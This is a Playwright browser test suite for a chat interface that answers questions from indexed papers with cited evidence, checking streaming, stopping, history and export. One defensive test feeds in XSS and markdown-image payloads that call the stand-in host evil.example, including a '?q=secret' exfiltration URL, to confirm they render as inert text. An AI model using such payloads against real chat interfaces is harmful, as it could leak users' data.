"""The chat in a real browser: asked, streamed, cited, stopped, attacked, kept. No page asks another machine."""

from __future__ import annotations

import re
import threading
from typing import Any

import pytest

pytest.importorskip("playwright.sync_api", reason="the browser is driven by playwright")

from tests.browser import (
    HOSTILE,
    PATIENCE,
    RECORDS,
    WIDGETS,
    Opened,
    Served,
    answers,
    ask,
    cited_lines,
    expect,
    faithful,
    kept,
    said,
    settled,
)
from tests.fake_model import FakeModel, Reply, Request

pytest_plugins = ["tests.browser"]
pytestmark = pytest.mark.usefixtures("reset")  # a plugin's autouse fixture would reach every module

FIRST = "How does WIDGETRON freeze the gate of every widget?"
SECOND = "How does LANTERN predict the drift of satellites?"


def test_start_and_start_again(extractive: Served, opened: Opened) -> None:
    """The corpus, its size, who writes, and questions to begin with, which can be chosen. A cleared
    conversation starts again: nothing is left of it."""
    page = opened(extractive)
    header = page.locator("#pl-header").inner_text()
    assert f"{len(RECORDS)} papers" in header and "no language model" in header
    expect(page.locator("#pl-evidence")).to_contain_text("appear here")
    expect(page.locator("#pl-stop-button")).to_be_hidden()
    page.get_by_role("button", name="Widgets That Remember").click()
    expect(answers(page)).to_have_count(1)
    expect(page.locator("#pl-chat")).to_contain_text("What is new in “Widgets That Remember”?")
    page.get_by_role("button", name="Clear").click()
    expect(page.locator("#pl-evidence")).to_contain_text("appear here")
    ask(page, SECOND)
    expect(answers(page)).to_have_count(1)
    expect(page.locator("#card-1-1")).to_contain_text("Drifting Satellites")


def test_an_answer_with_its_evidence(extractive: Served, opened: Opened) -> None:
    """The text is that of `ask`; a citation opens its card, where the quote is marked at its place."""
    question = "What is the running time of WIDGETRON, and what does WIDGETRON cost?"
    expected = extractive.assistant.ask(question)
    page = opened(extractive)
    ask(page, question)
    assert not expected.abstained
    # The two formulas are typeset, the two prices are not.
    expect(page.locator("#pl-chat .katex")).to_have_count(2)
    assert "$5 an hour" in said(page) and "$6" in said(page)
    # Formulas apart, which are read otherwise when typeset.
    outside = re.split(r"\$O\(n\^2\)\$|\\\( n \\log n \\\)", " ".join(expected.text.split()))
    for part in outside:
        assert part.strip() in said(page)

    panel = page.locator("#pl-evidence")
    card = panel.locator("article")
    expect(card).to_have_count(len(expected.papers))
    expect(card.first).to_contain_text("[1] Widgets That Remember")
    expect(card.first).to_contain_text("Ada B., Cy D.")
    expect(card.first.locator('a[href="https://host.example/widgets"]')).to_have_attribute(
        "rel", re.compile("noreferrer")
    )
    assert card.first.locator(".pl-abstract").text_content() == WIDGETS
    marked = "".join(card.first.locator("mark").all_text_contents())
    for claim in expected.claims:
        for citation in claim.citations:
            assert citation.n != 1 or citation.quote.text in marked
    verdicts = panel.locator(".pl-verdict").all_inner_texts()
    assert verdicts == ["✓ supported"] * len(expected.claims)
    panel.locator("summary").first.click()
    expect(panel.locator(".pl-reason").first).to_contain_text(expected.claims[0].reason)

    page.locator("#pl-chat .pl-cite").first.click()
    expect(page.locator("#card-1-1")).to_have_class(re.compile("pl-wanted"))
    expect(page.locator("#card-1-1 mark").first).to_be_in_viewport()

    # On a phone nothing is wider than the screen, and the evidence stands below the conversation.
    page.set_viewport_size({"width": 390, "height": 844})
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    chat, below = page.locator("#pl-chat").bounding_box(), panel.bounding_box()
    assert chat and below and below["y"] >= chat["y"] + chat["height"]


def test_turns_keep_their_sources(extractive: Served, opened: Opened) -> None:
    """A follow-up leans on the turn before it; an earlier answer brings its own evidence back."""
    page = opened(extractive)
    ask(page, SECOND)
    expect(page.locator("#card-1-1")).to_contain_text("Drifting Satellites")
    ask(page, FIRST)
    expect(page.locator("#card-2-1")).to_contain_text("Widgets That Remember")
    ask(page, "And what does it cost?")
    expect(page.locator("#card-3-1")).to_contain_text("Widgets That Remember")
    answers(page).nth(0).click(position={"x": 5, "y": 5})
    expect(page.locator("#card-1-1")).to_contain_text("Drifting Satellites")
    expect(page.locator("#card-3-1")).to_have_count(0)
    page.locator('#pl-chat a[href="#card-2-1"]').first.click()
    expect(page.locator("#card-2-1")).to_have_class(re.compile("pl-wanted"))


def test_two_users_at_once(extractive: Served, opened: Opened) -> None:
    """Neither sees anything of the other's."""
    pages = [opened(extractive), opened(extractive)]
    questions = [
        FIRST,
        SECOND,
    ]
    for page, question in zip(pages, questions, strict=True):
        ask(page, question, wait=False)
    for page, question, other in zip(pages, questions, reversed(questions), strict=True):
        expect(answers(page)).to_have_count(1)
        expect(page.locator("#pl-stop-button")).to_be_hidden()
        assert said(page) == " ".join(extractive.assistant.ask(question).text.split())
        chat = page.locator("#pl-chat")
        expect(chat).to_contain_text(question)
        expect(chat).not_to_contain_text(other)


def test_a_hostile_paper_stays_text(extractive: Served, opened: Opened) -> None:
    """Nothing of it runs, loads or becomes a form, in the conversation or in the card; all of it can be read."""
    page = opened(extractive)
    question = "What does a hostile gallery show? <img src=http://evil.example/q.png> ![x](http://evil.example/y)"
    ask(page, question)
    for place in ("#pl-chat", "#pl-evidence"):
        part = page.locator(place)
        assert part.locator("img, form, input, script, iframe, [onerror], [onmouseover]").count() == 0
        assert part.locator('a[href*="evil"], a[href^="javascript"]').count() == 0
    expect(page.locator("#pl-chat")).to_contain_text(question)
    assert "![x](http://evil.example/?q=secret)" in said(page)
    assert "PWNED" not in said(page)
    card = page.locator("#pl-evidence article", has_text="Hostile")
    assert card.locator(".pl-abstract").text_content() == HOSTILE
    expect(card.locator("h4")).to_contain_text('<img src=x onerror="window.pwned=4">Hostile')


class Held(list[str]):
    """Pieces of a reply of which the second and later ones wait until they are let go."""

    def __init__(self, *pieces: str) -> None:
        super().__init__(pieces)
        self.go_on = threading.Event()

    def __getitem__(self, place: Any) -> Any:
        if place:
            self.go_on.wait(PATIENCE / 1000)
        return super().__getitem__(place)


def test_streaming_and_stopping(written: Served, model: FakeModel, opened: Opened) -> None:
    """Evidence and the first sentence are there while the model writes; Stop ends the answer at once and
    the model within its sentence, which never ends; the next question works."""
    held = Held()

    def slow(request: Request) -> Reply:
        held.extend([f"{cited_lines(request)[0]}The ", *["so on "] * 600])
        return Reply(pieces=held, pause=0.1)

    page = opened(written)
    assert "the language model fake-model at 127.0.0.1" in page.locator("#pl-header").inner_text()
    model.responder = slow
    ask(page, FIRST, wait=False)
    expect(page.locator("#pl-chat .pl-cite")).to_have_count(1)
    expect(page.locator("#pl-evidence article").first).to_be_visible()
    expect(page.locator("#pl-step")).to_contain_text("papers … choosing evidence … writing … checking")
    expect(page.locator("#pl-chat .pl-foot")).to_have_count(0)
    request = model.history[-1]
    page.locator("#pl-stop-button").click()
    expect(page.locator("#pl-chat")).to_contain_text("Stopped. What stands above was checked.")
    expect(page.locator("#pl-ask-button")).to_be_visible()
    held.go_on.set()
    assert request.hung_up.wait(PATIENCE / 1000)
    model.responder = faithful
    ask(page, SECOND)
    expect(page.locator("#card-2-1")).to_contain_text("Drifting Satellites")


def test_failures_and_refusals(written: Served, model: FakeModel, opened: Opened) -> None:
    """A failure is told in the conversation, with what to do; a refusal shows no sources and nothing of what
    the model made up but for the count and the reasons; after each the next question works."""
    page = opened(written)
    panel = page.locator("#pl-evidence")
    question = FIRST
    model.enqueue(Reply.failing(500), Reply("WIDGETRON forgets", cut_after=1), "It was founded in 2015.")
    for words in ("has a fault of its own (status 500); ask again later", "was cut off; ask again"):
        ask(page, question)
        expect(page.locator("#pl-chat .pl-error").last).to_contain_text(words)
        expect(panel.locator("article")).to_have_count(0)
    ask(page, question)
    assert "do not answer this question" in said(page)
    expect(page.locator("#pl-chat")).not_to_contain_text("2015")
    expect(panel).to_contain_text("No sources")
    expect(panel).to_contain_text("1 sentence did not pass the check")
    expect(panel.locator("article")).to_have_count(0)
    assert model.left == 0
    ask(page, question)
    expect(panel.locator("article").first).to_be_visible()


def test_a_comparison(written: Served, model: FakeModel, opened: Opened) -> None:
    """A table whose cells cite; what a model says shorter takes a quote's place; each cell shows its verdict."""
    page = opened(written)
    ask(page, "Compare “GRIDNET for Speech” with “Widgets That Remember”")
    table = page.locator("#pl-chat table.pl-grid")
    expect(table).to_have_count(1)
    assert table.locator("thead th").count() == 3
    expect(table.locator("tbody tr").first).to_be_visible()
    marks = table.locator(".pl-mark")
    assert marks.count() == table.locator(".pl-cite").count() > 1
    assert {marks.nth(place).get_attribute("title") for place in range(marks.count())} == {"✓ supported"}
    table.locator(".pl-cite").last.click()
    expect(page.locator("#pl-evidence .pl-wanted mark").first).to_be_in_viewport()
    page.locator("#pl-evidence .pl-more summary").first.click()
    expect(page.locator("#pl-evidence .pl-row").first).to_be_visible()


def test_sides_that_are_not_one_paper(extractive: Served, opened: Opened) -> None:
    """One that fits several asks which, and the answer to that is a click; one of no paper is told in words."""
    page = opened(extractive)
    ask(page, "How do GRIDNET and WIDGETRON differ?")
    assert "fits several papers" in said(page)
    expect(page.locator("#pl-evidence article")).to_have_count(2)
    page.locator("#pl-chat").get_by_role("button", name="GRIDNET for Speech").click()
    expect(page.locator("#pl-chat table.pl-grid")).to_have_count(1)
    settled(page)
    expect(page.locator("#pl-evidence article").first).to_contain_text("GRIDNET for Speech")
    ask(page, "How do WIDGETRON and FOOBARNET differ?")
    assert "“FOOBARNET” is not among the indexed papers" in said(page)
    expect(page.locator("#pl-evidence .pl-side")).to_contain_text("FOOBARNET")


def test_a_reload_keeps_the_conversation(extractive: Served, opened: Opened) -> None:
    """With the sources of each turn and the history; another tab begins anew; a cleared one is in the list."""
    page = opened(extractive)
    ask(page, FIRST)
    before = said(page)
    kept(page, 1)
    page.reload()
    expect(answers(page)).to_have_count(1)
    assert said(page) == before
    expect(page.locator("#card-1-1")).to_contain_text("Widgets That Remember")
    ask(page, "And what does it cost?")
    expect(page.locator("#card-2-1")).to_contain_text("Widgets That Remember")
    kept(page, 2)
    other = page.context.new_page()
    other.goto(extractive.url)
    expect(other.locator("#pl-ask-button")).to_be_visible()
    expect(answers(other)).to_have_count(0)
    ask(other, SECOND)
    page.reload()
    expect(answers(page)).to_have_count(2)
    expect(page.locator("#pl-chat")).not_to_contain_text("LANTERN")
    page.locator("#pl-new").click()
    expect(answers(page)).to_have_count(0)
    page.locator("#pl-history button").first.click()
    expect(page.locator("#pl-past .pl-past")).to_have_count(2)
    page.locator("#pl-past .pl-past", has_text=FIRST).get_by_role("button").first.click()
    expect(answers(page)).to_have_count(2)
    assert said(page, 0) == before


def test_edit_retry_and_export(extractive: Served, opened: Opened) -> None:
    """An edited question replaces what followed; the export has the answers with their references."""
    page = opened(extractive)
    ask(page, FIRST)
    ask(page, "What is LANTERN about?")
    page.locator("#pl-evidence").get_by_role("button", name="Edit").click()
    expect(page.locator("#pl-box textarea")).to_have_value("What is LANTERN about?")
    expect(page.locator("#pl-step")).to_contain_text("Editing question 2")
    page.locator("#pl-box textarea").fill(SECOND)
    page.locator("#pl-ask-button").click()
    expect(page.locator("#pl-chat")).to_contain_text(SECOND)
    settled(page)
    expect(answers(page)).to_have_count(2)
    expect(page.locator("#pl-chat")).not_to_contain_text("What is LANTERN about?")
    before = said(page)
    page.locator("#pl-evidence").get_by_role("button", name="Ask again").click()
    expect(page.locator("#pl-step")).to_have_text("")
    settled(page)
    expect(answers(page)).to_have_count(2)
    assert said(page) == before
    texts = {}
    for kind in ("markdown", "bibtex", "csv"):
        with page.expect_download() as download:
            page.locator(f"#pl-export-{kind}").click()
        texts[kind] = download.value.path().read_text(encoding="utf-8")
    assert FIRST in texts["markdown"] and "Drifting Satellites" in texts["markdown"]
    assert texts["bibtex"].count("@inproceedings{") == 2 and texts["csv"].count("Remember") == 1
